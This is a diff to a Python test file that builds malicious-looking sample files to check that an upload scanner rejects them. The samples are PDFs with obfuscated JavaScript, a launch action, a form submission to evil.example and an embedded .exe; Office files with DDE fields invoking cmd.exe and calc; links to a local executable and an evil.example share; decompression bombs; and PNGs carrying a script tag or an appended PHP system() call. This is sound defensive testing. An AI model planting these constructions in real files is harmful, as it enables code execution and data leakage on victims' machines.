@@ -156,6 +156,54 @@ def scratched(content):
     return content[:3000] + b"\xff\xff\xff\xff" + content[3004:]
 
 
+def object_stream(content, filter_=b"FlateDecode", type_=b"ObjStm"):
+    head = b"<</Type/%s/N 1/First 4/Filter/%s/Length %d>>" % (type_, filter_, len(content))
+    return head + b"\nstream\n" + content + b"\nendstream"
+
+
+def with_field(*words):
+    """A field of Word whose instruction is spread over several runs."""
+    runs = "".join(f"<w:r><w:instrText>{word}</w:instrText></w:r>" for word in words)
+    field = f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>'.encode()
+
+    def change(name, inner):
+        return inner.replace(b"<w:body>", b"<w:body>" + field) if name == "word/document.xml" else inner
+
+    return repacked(docx(), change=change)
+
+
+def dde_workbook():
+    link = b'<externalLink xmlns="http://x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
+    return repacked(xlsx(), add=[("xl/externalLinks/externalLink1.xml", link)])
+
+
+def png(width, height, lines, *, text=b""):
+    """A PNG that says it is so large, and whose lines are these bytes."""
+
+    def chunk(kind, content):
+        return struct.pack(">L", len(content)) + kind + content + struct.pack(">L", zlib.crc32(kind + content))
+
+    header = struct.pack(">LLBBBBB", width, height, 8, 0, 0, 0, 0)
+    texts = chunk(b"tEXt", b"Comment\0" + text) if text else b""
+    data = chunk(b"IDAT", zlib.compress(lines, 9))
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + texts + data + chunk(b"IEND", b"")
+
+
+def jpg(width, height):
+    frame = struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00"
+    return b"\xff\xd8\xff\xc0" + struct.pack(">H", len(frame) + 2) + frame + b"\xff\xda\x00\x02\xff\xd9"
+
+
+def with_attachment(name):
+    from pypdfium2 import PdfDocument
+
+    document = PdfDocument(pdf())
+    document.new_attachment(name).set_data(b"MZ\x90")
+    target = io.BytesIO()
+    document.save(target)
+    return target.getvalue()
+
+
 def zipped(**parts):
     target = io.BytesIO()
     with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
@@ -271,7 +319,28 @@ BAD = {
     "脚本.pdf": (lambda: pdf(catalog=b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), "带有脚本"),
     "启动.pdf": (lambda: pdf(page=b"/AA<</O<</S/Launch/F(cmd.exe)>>>>"), "带有脚本"),
     "压缩脚本.pdf": (lambda: pdf(extra=object_stream_with_script()), "带有脚本"),
+    "拼写脚本.pdf": (lambda: pdf(catalog=b"/OpenAction<</S/J#61vaScript/JS(app.alert\\(1\\))>>"), "带有脚本"),
+    "藏起脚本.pdf": (
+        lambda: pdf(extra=object_stream(zlib.compress(b"5 0 <</S/J#61vaScript/JS(x)>>"), type_=b"Obj#53tm")),
+        "带有脚本",
+    ),
+    "另写脚本.pdf": (lambda: pdf(extra=object_stream(b"3c3c2f5300>", b"ASCIIHexDecode")), "写法很少见"),
+    "对象炸弹.pdf": (lambda: pdf(extra=object_stream(zlib.compress(b" " * 64 * MB, 9))), "压缩炸弹"),
+    "提交表单.pdf": (lambda: pdf(page=b"/AA<</O<</S/SubmitForm/F(http://evil.example)>>>>"), "带有脚本"),
+    "夹带.pdf": (lambda: with_attachment("发票.exe"), "夹带了附件“发票.exe”"),
     "半个.pdf": (lambda: b"%PDF-1.7\n" + b"junk " * 50, "已损坏"),
+    "域.docx": (lambda: with_field("DDEAUTO c:\\\\windows\\\\cmd.exe"), "DDE"),
+    "拆开的域.docx": (lambda: with_field("DD", "EAU", "TO cmd"), "DDE"),
+    "域.xlsx": (dde_workbook, "DDE"),
+    "磁盘链接.pptx": (lambda: with_relationship(pptx(), "hyperlink", "file:///c:/a.exe"), "外部的内容"),
+    "共享链接.pptx": (lambda: with_relationship(pptx(), "hyperlink", "\\\\evil.example\\a"), "外部的内容"),
+    "像素太多.png": (lambda: png(60_000, 60_000, b"\0"), "像素"),
+    "像素太多.jpg": (lambda: jpg(60_000, 60_000), "像素"),
+    "炸弹.png": (lambda: png(100, 100, b"\0" * 200 * MB), "压缩炸弹"),
+    "少行.png": (lambda: png(100, 100, b"\0" * 50), "已损坏"),
+    "坏和.png": (lambda: png(10, 10, b"\0" * 110).replace(b"IDAT", b"IDBT"), "已损坏"),
+    "网页注释.png": (lambda: png(10, 10, b"\0" * 110, text=b"<script>alert(1)</script>"), "另一种格式"),
+    "尾巴.png": (lambda: picture("PNG") + b"<?php system(1) ?>", "另一种格式"),
     "半个.png": (lambda: picture("PNG")[:60], "已损坏"),
     "假.jpg": (lambda: b"\xff\xd8\xff" + b"junk" * 50, "已损坏"),
 }
